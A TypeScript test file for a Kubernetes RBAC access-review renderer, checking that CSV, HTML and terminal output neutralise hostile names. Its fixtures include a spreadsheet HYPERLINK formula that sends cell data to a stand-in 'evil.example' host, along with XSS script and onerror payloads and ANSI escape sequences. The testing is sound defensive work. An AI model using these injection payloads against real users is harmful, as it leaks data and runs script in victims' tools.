import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { K8sObject } from '../../model/k8s.js';
import { describeSubject } from '../users.js';
import { renderReview, renderReviewJson } from './render.js';
import { buildReview } from './review.js';
import { estateView } from './testing.js';

/** Names chosen by whoever wrote the objects: formulas, quotes, line breaks, markup and terminal escapes. */
const HOSTILE_USERS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tpadded',
  'a,"quoted"\nsecond line',
  '<script>alert(1)</script>',
  '\u001b[2J\u001b[31mred',
];
const HOSTILE: K8sObject[] = [{
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name: '</td><script>steal()</script>' },
  roleRef: { kind: 'ClusterRole', name: 'secret-reader' },
  subjects: [
    ...HOSTILE_USERS.map((name) => ({ kind: 'User', name })),
    { kind: 'ServiceAccount', namespace: 'shop', name: '"><img src=x onerror=alert(1)>' },
  ],
}];

const review = buildReview(estateView(HOSTILE), { includeSystem: true, now: new Date('2026-11-27T10:00:00Z'), sources: ['estate.yaml', 'cluster <prod>'] });

/** RFC 4180, strictly: records end in CRLF; only a quoted field may hold commas, line breaks and (doubled) quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at]!;
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        field += '"';
        at += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') {
      assert.equal(field, '', 'a quote inside an unquoted field');
      quoted = true;
    } else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[at + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      at += 1;
    } else {
      assert.ok(char !== '\r' && char !== '\n', 'a line break outside quotes');
      field += char;
    }
  }
  assert.deepEqual([record, field, quoted], [[], '', false], 'the last record ends in CRLF');
  return records;
}

describe('renderReview', () => {
  it('json: parses back to the review it was rendered from', () => {
    const json = renderReview(review, 'json');
    assert.equal(json, renderReviewJson(review));
    assert.deepEqual(JSON.parse(json), review);
  });

  it('csv: one record per subject under a header, every field quoted as RFC 4180 says and none a formula', () => {
    const csv = renderReview(review, 'csv');
    const records = parseCsv(csv);
    assert.deepEqual(records[0], ['kind', 'namespace', 'name', 'system', 'bindings', 'permissions', 'highest risk', 'risks', 'workloads', 'pods', 'sign-off']);
    assert.equal(records.length, review.rows.length + 1);
    assert.ok(records.every((record) => record.length === 11));
    for (const record of records) for (const field of record) assert.doesNotMatch(field, /^[=+\-@\t\r]/, field);
    const names = new Set(records.map((record) => record[2]));
    for (const name of HOSTILE_USERS) {
      const shown = /^[=+\-@\t]/.test(name) ? `'${name}` : name;
      assert.ok(names.has(shown), `${JSON.stringify(name)} as ${JSON.stringify(shown)}`);
    }
    const deployer = records.find((record) => record[0] === 'ServiceAccount' && record[2] === 'deployer')!;
    assert.deepEqual(deployer.slice(3, 5), ['no', 'RoleBinding shop/deploy -> Role shop/deployer\ninherits from Group system:authenticated (1 binding), Group system:serviceaccounts:shop (1 binding)']);
    assert.deepEqual(deployer.slice(6), [
      'critical',
      'critical: Read secrets (cluster-wide, by ClusterRole secret-reader through Group system:serviceaccounts:shop)\n'
        + 'high: Create pods or pod controllers (in shop, by Role shop/deployer)\n'
        + 'high: Create service-account tokens (in shop, by Role shop/deployer)',
      'Pod debug [privileged]',
      '1',
      '',
    ]);
  });

  it('html: one self-contained page, every name escaped, no scripts or outside resources, a sign-off per row', () => {
    const html = renderReview(review, 'html');
    assert.doesNotMatch(html, /<script/i);
    assert.doesNotMatch(html, /url\(|@import/i);
    const tags = [...html.matchAll(/<\/?([a-zA-Z0-9!]+)([^>]*)>/g)];
    const allowed = new Set(['!DOCTYPE', 'html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'dl', 'dt', 'dd', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'span', 'div']);
    for (const [tag, name, attributes] of tags) {
      assert.ok(allowed.has(name!), tag);
      for (const [, attribute] of attributes!.matchAll(/\s([a-z-]+)=/g)) assert.ok(['lang', 'charset', 'http-equiv', 'content', 'class'].includes(attribute!), tag);
    }
    assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">/);
    assert.ok(html.includes('User &lt;script&gt;alert(1)&lt;/script&gt;'));
    assert.ok(html.includes('ServiceAccount shop/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'));
    assert.ok(html.includes('ClusterRoleBinding &lt;/td&gt;&lt;script&gt;steal()&lt;/script&gt;'));
    assert.ok(html.includes('estate.yaml, cluster &lt;prod&gt;'));
    assert.equal(html.match(/<tr>/g)?.length, review.rows.length + 1);
    assert.equal(html.match(/<td class="sign-off"><\/td>/g)?.length, review.rows.length);
    assert.match(html, /<th>Sign-off<\/th>/);
    assert.match(html, /<dt>Read secrets \(secrets-read\)<\/dt><dd>Secrets hold credentials, .*Per-role control: rbac-secrets-read\.<\/dd>/);
    assert.doesNotMatch(html, /\(csr-sign\)/, 'only flags on the page are explained');
    assert.match(html, /<div class="signature"><div>Reviewer<\/div><div>Signature<\/div><div>Date<\/div><\/div>/);
  });

  it('table: a header, a row per subject, colour only when asked, and no control characters from names', () => {
    const plain = renderReview(review, 'table', { width: 200 });
    assert.match(plain, /^RBAC access review, generated 2026-11-27T10:00:00.000Z\nSources: estate.yaml, cluster <prod>\n28 subjects: 28 listed; highest risk critical \d+, high \d+, medium 2\./);
    assert.doesNotMatch(plain, /\u001b/);
    assert.ok(plain.includes('User [2J[31mred'), 'escape sequences lose their escape character');
    for (const row of review.rows.filter((each) => !/[\t\n\u001b]/.test(each.subject.name))) assert.ok(plain.includes(describeSubject(row.subject)), describeSubject(row.subject));
    assert.match(renderReview(review, 'table', { color: true, width: 200 }), /\u001b\[31m/);
  });

  it('table: says so when there is nothing to review', () => {
    const empty = buildReview(estateView(), { includeSystem: false, now: new Date(0) });
    assert.match(renderReview({ ...empty, rows: [] }, 'table'), /no subjects to review\n$/);
  });
});
